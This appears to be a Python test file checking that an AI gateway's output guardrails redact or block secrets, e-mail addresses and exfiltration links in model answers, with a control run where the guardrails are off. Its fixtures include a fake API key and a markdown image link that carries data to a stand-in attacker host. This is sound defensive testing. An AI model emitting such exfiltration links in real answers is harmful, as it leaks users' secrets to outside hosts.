"""`/v1/invoke` passes the output guardrails like the chat routes: a secret, an e-mail
address or an exfiltration link in a string answer, or in any string of a JSON answer,
never leaves raw; `block` withholds the answer (422 ``output_blocked``, paid for and
traced); a clean answer passes unchanged; with the output guardrails off the same answers
pass as sent (the control that shows the target really sends them)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from guardkit import http
from openai_kit import chat_gateway

from servers import JsonServer

SECRET = "sk-abcdefghijklmnopqrstuvwxyz0123"
EMAIL = "dana.okafor@example.com"
LEAK_URL = "https://evil.example/c?d=secretdata123"
LEAKY = f"Write to {EMAIL}, use the key {SECRET}, see ![x]({LEAK_URL})"
DOC = {
    "reply": f"Ask {EMAIL}",
    "sources": [LEAK_URL, "https://docs.example.com/guide"],
    "score": 0.93,
    "ok": True,
    "meta": {"note": "all clear", "token": SECRET},
}
CLEAN = {"reply": "Your parcel arrives on Tuesday.", "sources": ["https://docs.example.com/a"]}
OFF = {"guardrails": {"output": {"pii": "off", "secrets": "off", "exfiltration": "off"}}}
ON = {
    "guardrails": {"pii": {"action": "redact"}, "output": {"allowed_hosts": ["docs.example.com"]}}
}


def answer(payload: Any, request: Any) -> dict[str, Any]:
    kind = payload.get("input") if isinstance(payload, dict) else None
    return {"output": {"string": LEAKY, "json": DOC, "clean": CLEAN}.get(kind, kind)}


def target(url: str) -> dict[str, Any]:
    return {"kind": "http", "url": url + "/answer", "price": {"per_call": 0.01}}


def invoke(url: str, key: str, kind: str) -> tuple[int, dict[str, str], Any]:
    return http(url + "/v1/invoke", {"input": kind}, key=key)


def test_string_and_json_answers_are_redacted_and_traced(tmp_path: Path) -> None:
    with (
        JsonServer(answer) as service,
        chat_gateway(tmp_path, None, ON, target=target(service.url)) as gw,
    ):
        status, headers, body = invoke(gw.url, gw.key, "string")
        assert status == 200
        out = body["output"]
        for raw in (SECRET, EMAIL, "evil.example"):
            assert raw not in out
        assert out == "Write to [EMAIL], use the key [SECRET], see ![x]([LINK])"
        trace = gw.trace(headers["x-request-id"])
        assert {"output_pii", "secret", "exfiltration"} <= {f["type"] for f in trace.findings}
        assert EMAIL not in str(trace.output) and SECRET not in str(trace.output)

        status, _, body = invoke(gw.url, gw.key, "json")
        assert status == 200
        assert body["output"] == {  # the shape kept, every string scanned on its own
            "reply": "Ask [EMAIL]",
            "sources": ["[LINK]", "https://docs.example.com/guide"],
            "score": 0.93,
            "ok": True,
            "meta": {"note": "all clear", "token": "[SECRET]"},
        }
        status, headers, body = invoke(gw.url, gw.key, "clean")
        assert (status, body["output"]) == (200, CLEAN)
        assert gw.trace(headers["x-request-id"]).findings in (None, [])


def test_the_same_answers_pass_raw_with_the_output_guardrails_off(tmp_path: Path) -> None:
    with (
        JsonServer(answer) as service,
        chat_gateway(tmp_path, None, OFF, target=target(service.url)) as gw,
    ):
        assert invoke(gw.url, gw.key, "string")[2]["output"] == LEAKY
        assert invoke(gw.url, gw.key, "json")[2]["output"] == DOC


def test_block_withholds_the_answer_and_a_clean_one_still_passes(tmp_path: Path) -> None:
    block = {"guardrails": {"output": {"secrets": "block", "allowed_hosts": ["docs.example.com"]}}}
    with (
        JsonServer(answer) as service,
        chat_gateway(tmp_path, None, block, target=target(service.url)) as gw,
    ):
        for kind in ("string", "json"):
            status, headers, body = invoke(gw.url, gw.key, kind)
            assert status == 422, body
            assert body["error"]["code"] == "output_blocked"
            assert "secret" in body["error"]["message"]
            assert SECRET not in str(body)
            trace = gw.trace(headers["x-request-id"])
            assert (trace.status_code, trace.error_kind) == (422, "output_blocked")
            assert trace.cost == 0.01  # the target was called and paid for
            assert trace.output is None
        status, _, body = invoke(gw.url, gw.key, "clean")
        assert (status, body["output"]) == (200, CLEAN)
